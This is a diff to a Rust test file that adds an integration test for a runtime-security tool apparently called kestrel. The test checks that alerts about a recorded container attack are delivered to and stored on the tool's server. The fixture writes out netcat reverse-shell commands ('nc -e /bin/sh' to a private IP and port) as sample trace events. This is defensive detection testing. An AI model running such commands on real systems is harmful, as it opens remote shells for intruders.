@@ -170,3 +170,55 @@ fn a_bad_token_file_is_a_clear_error() {
     let e = String::from_utf8_lossy(&out.stderr);
     assert!(e.contains("tokens.yaml") && e.contains("64 hex digits"), "{e}");
 }
+
+#[test]
+fn detect_sends_its_alerts_to_the_server() {
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("data");
+    let server = start(&data, &[]);
+    let admin = std::fs::read_to_string(data.join("admin.token")).unwrap().trim().to_string();
+    // A recording of a container running a reverse shell through nc (what the built-in rules catch).
+    let rec = dir.path().join("attack.jsonl");
+    let mut lines = vec![serde_json::json!({"schema": "kestrel.trace/v1", "started_ns": 1_000_000_000u64}).to_string()];
+    for (i, argv) in
+        [["/bin/nc", "-e", "/bin/sh", "10.0.0.9", "4444"], ["/bin/nc", "-e", "/bin/bash", "10.0.0.9", "4445"]]
+            .iter()
+            .enumerate()
+    {
+        lines.push(
+            serde_json::json!({"schema": "kestrel.event/v1", "time_ns": 2_000_000_000u64 + i as u64, "pid": 100 + i, "tid": 100 + i,
+                "comm": "nc", "cgroup_id": 1, "container": {"id": "web-1", "runtime": "runc"}, "kind": "exec", "ppid": 1,
+                "parent_comm": "sh", "uid": 0, "gid": 0, "euid": 0, "exe": argv[0], "argv": argv, "cap_effective": 0})
+            .to_string(),
+        );
+    }
+    std::fs::write(&rec, lines.join("\n") + "\n").unwrap();
+    let out = Command::cargo_bin("kestrel")
+        .unwrap()
+        .args([
+            "detect",
+            "-f",
+            "json",
+            "--no-profiles",
+            "--server",
+            &server.base,
+            "--server-token",
+            &admin,
+            "--node",
+            "node-7",
+            "--spool",
+        ])
+        .arg(dir.path().join("spool"))
+        .arg(&rec)
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{stderr}");
+    let printed = String::from_utf8_lossy(&out.stdout).lines().count();
+    assert!(printed >= 2, "{printed} alerts printed");
+    assert!(stderr.contains(&format!("server: {printed} delivered")), "{stderr}");
+    let page = get(&server.base, "/api/v1/alerts?node=node-7", &admin);
+    let stored = page["items"].as_array().unwrap();
+    assert_eq!(stored.len(), printed, "every printed alert is on the server");
+    assert!(stored.iter().all(|a| a["node"] == "node-7" && a["alert"]["schema"] == "kestrel.alert/v1"));
+}
